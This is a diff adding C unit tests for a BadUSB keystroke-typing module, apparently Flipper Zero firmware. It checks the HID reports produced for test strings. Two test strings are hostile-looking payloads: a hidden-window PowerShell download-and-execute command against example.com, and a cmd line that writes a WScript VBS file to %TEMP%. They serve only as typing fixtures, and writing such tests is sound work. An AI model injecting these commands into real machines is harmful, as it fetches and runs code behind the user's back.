@@ -0,0 +1,182 @@
+#include <furi.h>
+#include <furi_hal.h>
+#include <furi_hal_usb_hid.h>
+#include <bad_usb/ducky_typer.h>
+#include "../minunit.h"
+
+#define TAG "DuckyTyperTest"
+
+#define DUCKY_TYPER_TEST_TEXT_LEN 512
+
+// Host model: key press is a key that was not in the previous report
+typedef struct {
+    DuckyTyperReport prev;
+    char text[DUCKY_TYPER_TEST_TEXT_LEN + 1];
+    size_t text_len;
+    uint8_t max_held;
+    size_t reports;
+    size_t stop_after;
+    bool order_error;
+} DuckyTyperTestHost;
+
+static char ducky_typer_test_keycode_to_char(uint16_t keycode) {
+    for(uint8_t c = 0; c < 128; c++) {
+        if(HID_ASCII_TO_KEY(c) == keycode) return c;
+    }
+    return '\0';
+}
+
+static bool
+    ducky_typer_test_callback(const DuckyTyperReport* report, bool keystroke, void* context) {
+    DuckyTyperTestHost* host = context;
+    uint8_t held = 0;
+    uint8_t pressed = 0;
+
+    for(uint8_t i = 0; i < HID_KB_MAX_KEYS; i++) {
+        uint8_t key = report->keys[i];
+        if(key == KEY_NONE) continue;
+        held++;
+        bool was_held = false;
+        for(uint8_t j = 0; j < HID_KB_MAX_KEYS; j++) {
+            if(host->prev.keys[j] == key) was_held = true;
+        }
+        if(was_held) continue;
+        pressed++;
+        if(host->text_len < DUCKY_TYPER_TEST_TEXT_LEN) {
+            host->text[host->text_len++] =
+                ducky_typer_test_keycode_to_char(key | (report->mods << 8));
+        }
+    }
+    // Order of presses inside one report is not defined for host
+    if(pressed > 1) host->order_error = true;
+    if(keystroke != (pressed == 1)) host->order_error = true;
+
+    host->max_held = MAX(host->max_held, held);
+    host->prev = *report;
+    host->reports++;
+    return (host->stop_after == 0) || (host->reports < host->stop_after);
+}
+
+static void ducky_typer_test_run(
+    DuckyTyperTestHost* host,
+    uint8_t rollover,
+    const char* text,
+    bool* result) {
+    DuckyTyper typer;
+    memset(host, 0, sizeof(DuckyTyperTestHost));
+    ducky_typer_init(&typer, rollover, ducky_typer_test_callback, host);
+    *result = ducky_typer_string(&typer, text, strlen(text));
+    host->text[host->text_len] = '\0';
+}
+
+static void ducky_typer_test_check_release(DuckyTyperTestHost* host) {
+    mu_assert_int_eq(0, host->prev.mods);
+    for(uint8_t i = 0; i < HID_KB_MAX_KEYS; i++) {
+        mu_assert_int_eq(KEY_NONE, host->prev.keys[i]);
+    }
+}
+
+MU_TEST(ducky_typer_text_test) {
+    static const char* texts[] = {
+        "Hello, World!",
+        "aaaa  bbbb",
+        "abcdefghijklmnopqrstuvwxyz",
+        "The Quick Brown Fox Jumps Over The Lazy Dog 0123456789 !@#$%^&*()",
+        "powershell -NoP -W Hidden -c \"iwr http://example.com/x.ps1 | iex\"",
+    };
+    DuckyTyperTestHost* host = malloc(sizeof(DuckyTyperTestHost));
+    bool result = false;
+
+    for(size_t i = 0; i < COUNT_OF(texts); i++) {
+        for(uint8_t rollover = 1; rollover <= HID_KB_MAX_KEYS; rollover++) {
+            ducky_typer_test_run(host, rollover, texts[i], &result);
+            mu_check(result);
+            mu_assert_string_eq(texts[i], host->text);
+            mu_check(!host->order_error);
+            mu_check(host->max_held <= rollover);
+            ducky_typer_test_check_release(host);
+            if(rollover == 1) {
+                // Press and release for each character
+                mu_assert_int_eq(strlen(texts[i]) * 2, host->reports);
+            } else {
+                mu_check(host->reports <= strlen(texts[i]) * 2);
+            }
+        }
+    }
+
+    free(host);
+}
+
+MU_TEST(ducky_typer_coalesce_test) {
+    DuckyTyperTestHost* host = malloc(sizeof(DuckyTyperTestHost));
+    bool result = false;
+
+    // Distinct lowercase letters: one report per key, one release at the end
+    ducky_typer_test_run(host, HID_KB_MAX_KEYS, "abcdefghijkl", &result);
+    mu_assert_int_eq(12 + 1, host->reports);
+    mu_assert_int_eq(HID_KB_MAX_KEYS, host->max_held);
+
+    // Repeated key needs a release in between
+    ducky_typer_test_run(host, HID_KB_MAX_KEYS, "aaa", &result);
+    mu_assert_int_eq(3 * 2, host->reports);
+
+    // Modifier change is merged with the next press
+    ducky_typer_test_run(host, HID_KB_MAX_KEYS, "aBc", &result);
+    mu_assert_string_eq("aBc", host->text);
+    mu_assert_int_eq(3 + 1, host->reports);
+
+    // Characters without key code are skipped, empty text sends nothing
+    ducky_typer_test_run(host, HID_KB_MAX_KEYS, "\x7f", &result);
+    mu_check(result);
+    mu_assert_int_eq(0, host->reports);
+
+    free(host);
+}
+
+MU_TEST(ducky_typer_stop_test) {
+    DuckyTyperTestHost* host = malloc(sizeof(DuckyTyperTestHost));
+    DuckyTyper typer;
+    memset(host, 0, sizeof(DuckyTyperTestHost));
+    host->stop_after = 5;
+    ducky_typer_init(&typer, HID_KB_MAX_KEYS, ducky_typer_test_callback, host);
+    mu_check(!ducky_typer_string(&typer, "abcdefghij", 10));
+    mu_assert_int_eq(5, host->reports);
+    mu_assert_int_eq(5, typer.keystrokes_cnt);
+    free(host);
+}
+
+MU_TEST(ducky_typer_rate_test) {
+    // Reports per character for a typical payload, each report takes one USB poll
+    static const char payload[] =
+        "cmd /c \"echo Set WshShell = CreateObject(\"WScript.Shell\") > %TEMP%\\run.vbs\"";
+    DuckyTyperTestHost* host = malloc(sizeof(DuckyTyperTestHost));
+    bool result = false;
+
+    ducky_typer_test_run(host, 1, payload, &result);
+    size_t reports_single = host->reports;
+    ducky_typer_test_run(host, HID_KB_MAX_KEYS, payload, &result);
+    size_t reports_rollover = host->reports;
+
+    FURI_LOG_I(
+        TAG,
+        "%u chars: %u reports without rollover, %u with rollover",
+        strlen(payload),
+        reports_single,
+        reports_rollover);
+    mu_assert_string_eq(payload, host->text);
+    mu_check(reports_rollover * 3 < reports_single * 2);
+
+    free(host);
+}
+
+MU_TEST_SUITE(ducky_typer_suite) {
+    MU_RUN_TEST(ducky_typer_text_test);
+    MU_RUN_TEST(ducky_typer_coalesce_test);
+    MU_RUN_TEST(ducky_typer_stop_test);
+    MU_RUN_TEST(ducky_typer_rate_test);
+}
+
+int run_minunit_test_ducky_typer() {
+    MU_RUN_SUITE(ducky_typer_suite);
+    return MU_EXIT_CODE;
+}